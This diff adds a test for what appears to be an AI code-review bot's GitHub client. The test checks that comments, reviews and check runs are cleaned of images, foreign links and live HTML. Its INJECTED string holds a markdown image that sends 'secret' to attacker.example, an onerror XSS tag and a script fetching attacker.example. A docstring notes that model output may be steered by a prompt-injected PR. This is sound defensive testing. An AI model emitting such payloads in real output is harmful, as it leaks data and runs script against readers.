@@ -972,3 +972,50 @@ def test_clone_url_carries_the_token_for_github_and_enterprise() -> None:
     finally:
         dotcom.close()
         ghe.close()
+
+
+INJECTED = (
+    "Looks fine. ![x](http://attacker.example/r.png?d=secret) see "
+    "[the docs](https://attacker.example/p) and <img src=x onerror=alert(1)> "
+    "<script>fetch('//attacker.example')</script> or the "
+    "[PR](https://github.com/acme/shop/pull/7)\n\n```html\n<b>kept in code</b>\n```"
+)
+
+
+def _no_foreign_markup(body: str) -> None:
+    """Assert a posted body carries no image, foreign link or live HTML outside code."""
+    prose = body.split("```html")[0]
+    assert "![" not in prose and "://attacker.example" not in prose
+    assert "<img" not in prose and "<script" not in prose  # escaped: shown as text
+    assert "https://github.com/acme/shop/pull/7" in prose  # allowed host, kept
+    assert "<b>kept in code</b>" in body  # code blocks are left as written
+
+
+def test_every_post_is_stripped_of_images_foreign_links_and_html(
+    fake: FakeGitHub, client: GitHubClient
+) -> None:
+    """Model text may be steered by an injected PR: what reaches GitHub is cleaned."""
+    sha = "a1" * 20
+    fake.add_pull(REPO, 12, diff=DIFF, head_sha=sha)
+    client.upsert_comment(REPO, 12, marker=MARKER, body=INJECTED)
+    (comment,) = fake.comments(REPO, 12)
+    _no_foreign_markup(comment["body"])
+    assert comment["body"].endswith(MARKER)
+    comments = [ReviewComment(path="src/auth/session.py", line=2, body=INJECTED)]
+    client.create_review(REPO, 12, commit_sha=sha, body=INJECTED, comments=comments)
+    (review,) = fake.reviews(REPO, 12)
+    _no_foreign_markup(review["body"])
+    _no_foreign_markup(review["comments"][0]["body"])
+    run_id = client.upsert_check_run(
+        REPO,
+        head_sha=sha,
+        name="cibot",
+        status="completed",
+        conclusion="neutral",
+        title="t",
+        summary=INJECTED,
+        text=INJECTED,
+    )
+    (run,) = [r for r in fake.check_runs(REPO) if r["id"] == run_id]
+    _no_foreign_markup(run["output"]["summary"])
+    _no_foreign_markup(run["output"]["text"])
